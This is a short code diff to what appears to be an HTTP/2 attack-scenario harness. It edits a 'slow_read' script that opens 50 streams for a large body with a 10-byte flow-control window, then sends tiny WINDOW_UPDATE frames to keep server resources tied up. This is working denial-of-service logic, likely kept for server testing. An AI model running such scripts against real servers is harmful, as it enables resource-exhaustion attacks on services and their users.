@@ -50,7 +50,7 @@ def head(method: bytes, path: bytes) -> bytes:
     return field(b":method", method) + where
 
 
-GET, POST, LARGE = head(b"GET", b"/h2-attack"), head(b"POST", b"/h2-attack"), head(b"GET", b"/bytes/8000000")
+GET, POST, LARGE = head(b"GET", b"/h2-attack"), head(b"POST", b"/h2-attack"), head(b"GET", b"/bytes/400000")
 HELLO = PREFACE + frame(SETTINGS, 0, 0)
 
 
@@ -111,10 +111,11 @@ def zero_window() -> Script:
 
 
 def slow_read() -> Script:
-    yield HELLO + b"".join(ask(stream, LARGE) for stream in range(1, 100, 2))
+    yield PREFACE + frame(SETTINGS, 0, 0, struct.pack("!HL", 4, 10))
+    yield b"".join(ask(stream, LARGE) for stream in range(1, 100, 2))
     for turn in count():
         yield PAUSE
-        if turn % 10 == 9:
+        if turn % 2:
             yield b"".join(frame(WINDOW_UPDATE, 0, stream, word(10)) for stream in range(1, 100, 2))
 
 
